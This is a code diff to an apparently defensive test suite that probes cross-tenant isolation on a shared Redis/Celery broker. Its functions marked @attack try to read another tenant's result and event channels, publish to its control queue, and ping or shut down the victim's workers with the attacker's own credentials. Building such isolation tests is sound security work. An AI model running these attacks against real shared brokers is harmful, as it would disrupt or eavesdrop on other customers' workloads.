@@ -23,6 +23,7 @@ import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
+from unittest import mock
 from urllib.parse import urlsplit
 
 import redis
@@ -657,11 +658,6 @@ def copy_queue() -> object:
 
 
 @attack
-def publish_control_message() -> object:
-    return store().publish(f"live:/{TARGET['database']}.{TARGET['queue']}.pidbox", "{}")
-
-
-@attack
 def listen_to_results() -> object:
     with contextlib.closing(store().pubsub()) as channels:
         channels.subscribe("live:celery-task-meta-of-live")
@@ -675,30 +671,33 @@ def listen_to_events() -> object:
         return channels.parse_response()
 
 
-def control() -> Any:
-    """Return the remote control of the victim's workers, with our own password."""
-    app = Celery(broker=victims_url(), set_as_current=False)
-    app.conf.broker_transport_options = {"global_keyprefix": "live:"}
-    return app.control
-
-
-@attack
-def control_shutdown() -> object:
-    try:
-        return control().shutdown(destination=TARGET["nodes"])
-    except OperationalError as error:
-        raise error.__cause__ or error from None
+def control(command: str, **options: Any) -> object:
+    """Send a command to the victim's workers, with our own password; Celery takes the URL from the environment."""
+    with mock.patch.dict(os.environ, CELERY_BROKER_URL=victims_url()):
+        app = Celery(set_as_current=False)
+        app.conf.broker_transport_options = {"global_keyprefix": "live:"}
+        try:
+            return getattr(app.control, command)(**options)
+        except OperationalError as error:
+            raise error.__cause__ or error from None
 
 
 @attack
 def control_ping() -> object:
-    try:
-        answers = control().ping(timeout=1)
-    except OperationalError as error:
-        raise error.__cause__ or error from None
+    answers = control("ping", timeout=1)
     if not answers:
         raise MissedError("no answer")
     return answers
+
+
+@attack
+def control_shutdown() -> object:
+    return control("shutdown", destination=TARGET["nodes"])
+
+
+@attack
+def publish_control_message() -> object:
+    return store().publish(f"live:/{TARGET['database']}.{TARGET['queue']}.pidbox", "{}")
 
 
 ADMINISTRATION = (
